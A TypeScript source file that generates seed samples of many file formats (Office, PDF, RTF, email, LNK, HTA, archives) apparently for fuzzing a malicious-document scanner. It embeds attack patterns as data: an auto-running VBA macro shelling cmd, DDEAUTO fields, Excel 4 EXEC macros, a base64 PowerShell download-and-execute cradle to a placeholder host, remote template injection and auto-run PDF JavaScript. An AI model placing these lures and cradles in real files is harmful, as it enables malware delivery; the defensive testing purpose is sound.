/** One document of each format, with as much in it as the writers can: where mutation begins. */
import { gzipSync } from "node:zlib";
import { cab, iso, oneNote, tar } from "./archives.ts";
import { ddeBook, token, workbookStream } from "./biff.ts";
import { bytes, wide } from "./bytes.ts";
import { writeCfb } from "./cfb.ts";
import { lnk } from "./lnk.ts";
import { ole1, packaged } from "./ole1.ts";
import { pdf, stream } from "./pdf.ts";
import { pe } from "./pe.ts";
import { vbaStreams } from "./vba.ts";
import { packagedFile, wordStreams } from "./word.ts";
import { writeOoxml, writeZip } from "./zip.ts";

const macro = 'Sub AutoOpen()\n  Shell "cmd /c " & Chr(99) & StrReverse("cla") & "c"\nEnd Sub\n'.repeat(20);
const command = Buffer.from(
  "IEX (New-Object Net.WebClient).DownloadString('http://files.example/a')",
  "utf16le",
).toString("base64");
const project = writeCfb(vbaStreams({ modules: [{ name: "M", code: macro }] }));
const relations =
  '<Relationships><Relationship Id="rId1" Type="http://x/attachedTemplate" Target="http://files.example/t.dotm" TargetMode="External"/></Relationships>';

function mail(): Uint8Array {
  const attachment = Buffer.from(writeZip({ "a.js": "eval(unescape('%61'))" })).toString("base64");
  return bytes(
    'From: "a@b.example" <x@y.example>\r\nTo: z@y.example\r\nSubject: =?utf-8?B?w7w=?=\r\nContent-Type: multipart/mixed; boundary="b"\r\n\r\n' +
      '--b\r\nContent-Type: text/html\r\nContent-Transfer-Encoding: quoted-printable\r\n\r\n<a href=3D"http://203.0.113.9/">www.bank.example</a>\r\n' +
      `--b\r\nContent-Type: application/zip; name="a.zip"\r\nContent-Transfer-Encoding: base64\r\n\r\n${attachment}\r\n--b--\r\n`,
  );
}

/** One document of each kind, under the name that it would have. */
export function corpus(): Record<string, Uint8Array> {
  return { ...officeDocuments(), ...otherDocuments(), ...programs(), ...archives() };
}

function officeDocuments(): Record<string, Uint8Array> {
  const book = workbookStream(
    [
      { name: "S" },
      {
        name: "Macro1",
        kind: "macro",
        visibility: 2,
        formulas: [
          bytes(token.text("calc"), token.wideText("x"), token.concatenate, token.call(110, 1)),
          bytes(token.number(3), token.cell(1, 1), token.command(96, 2)),
        ],
      },
    ],
    {
      names: [{ name: 1, formula: token.cell(0, 0) }, { name: "Other" }],
      extra: [ddeBook("cmd", "/c calc")],
    },
  );
  return {
    "a.doc": writeCfb({
      ...wordStreams('\u0013 DDEAUTO cmd "/c calc" \u0014x\u0015 Hello'),
      ...vbaStreams({ modules: [{ name: "M", code: macro }] }, "Macros/"),
      "ObjectPool/_1/\u0001Ole10Native": packagedFile("calc.lnk", lnk({ target: "C:\\a.exe", args: "/x" })),
      "ObjectPool/_2/Equation Native": bytes(
        new Uint8Array(28),
        [3, 1, 1, 3, 10, 8, 1, 0],
        "A".repeat(50),
        0,
      ),
    }),
    "a.xls": writeCfb({
      Workbook: book,
      ...vbaStreams({ modules: [{ name: "M", code: macro }] }, "_VBA_PROJECT_CUR/"),
    }),
    "a.docm": writeOoxml("word/document.xml", "ms-word.document.macroEnabled.main", {
      "word/document.xml": '<w:document><w:fldSimple w:instr="DDE a b"/></w:document>',
      "word/_rels/document.xml.rels": relations,
      "word/vbaProject.bin": project,
    }),
  };
}

function otherDocuments(): Record<string, Uint8Array> {
  return {
    "a.pdf": pdf([
      "<< /Type /Catalog /OpenAction 2 0 R /AA << /O 2 0 R >> >>",
      "<< /S /JavaScript /J#53 3 0 R >>",
      stream("", "app.alert(unescape('%61'))"),
      stream("/Type /ObjStm /N 1 /First 4", "9 0 << /S /URI /URI (http://files.example/) >>"),
      "<< /Type /Filespec /UF (a.js) /EF << /F 6 0 R >> >>",
      stream("/Type /EmbeddedFile", "var a = 1;"),
    ]),
    "a.rtf": bytes(
      `{\\rtf1 Hello {\\object\\objupdate{\\*\\objdata ${ole1("Package", packaged("a.vbs", bytes("MsgBox 1")))}}}{\\field{\\*\\fldinst DDE a b}}}`,
    ),
    "a.eml": mail(),
    "a.msg": writeCfb({
      "__properties_version1.0": new Uint8Array(32),
      "__substg1.0_0037001F": wide("Plan"),
      "__substg1.0_10090102": bytes(
        [0x20, 0, 0, 0, 0x40, 0, 0, 0],
        "LZFu",
        new Uint8Array(4),
        [0, 0x7b, 0x5c],
        "rtf1 hello world and more text",
      ),
      "__attach_version1.0_#00000000/__substg1.0_37010102": bytes("hello"),
    }),
    "a.one": oneNote("<html><script>x</script></html>"),
    "a.slk": bytes('ID;PWXL;N;E\nO;E\nNN;NAuto_open;ER1C1\nC;X1;Y1;K0;EEXEC("calc.exe")\nE\n'),
  };
}

function programs(): Record<string, Uint8Array> {
  return {
    "a.exe": pe({
      imports: { "KERNEL32.dll": ["ExitProcess", "WriteFile"], "WS2_32.dll": [1, 2] },
      overlay: writeZip({ "a.txt": "x" }),
    }),
    "a.lnk": bytes(
      lnk({
        target: "C:\\Windows\\System32\\cmd.exe",
        args: `/c powershell -e ${command}`,
        icon: "C:\\a.pdf",
        machine: "ws-17",
      }),
      new Uint8Array(64),
    ),
    "a.msi": writeCfb({ "Binary.run": bytes("MsgBox 1") }, { "": "000c1084-0000-0000-c000-000000000046" }),
    "a.hta": bytes(
      '<html><hta:application/><script language="VBScript">Execute(StrReverse("1 xoBgsM"))</script></html>',
    ),
    "a.vbe": bytes(
      "#@~^RQAAAA==-mD~sX|:/TP{~J:+dYbxL~@!F@*@!+@*@!&@*eEI@#@&@#@&.jm.raY 214Wv:zms/obI0xEAAA==^#~@",
    ),
    "a.so": bytes([0x7f], "ELF", [2, 1, 1], new Uint8Array(200)),
  };
}

function archives(): Record<string, Uint8Array> {
  return {
    "a.zip": writeZip({ "a.txt": "hello", "b/c.ps1": `powershell -enc ${command}` }),
    "a.tgz": new Uint8Array(gzipSync(tar("run.vbs", "MsgBox 1"))),
    "a.iso": iso("RUN.VBS", "MsgBox 1"),
    "a.cab": cab("run.vbs", "MsgBox 1"),
    "a.rar": bytes(
      "Rar!\x1a\x07\x01\0",
      [0, 0, 0, 0, 10, 2, 2, 3, 0, 0, 0, 0, 5],
      "a.js",
      new Uint8Array(20),
    ),
  };
}
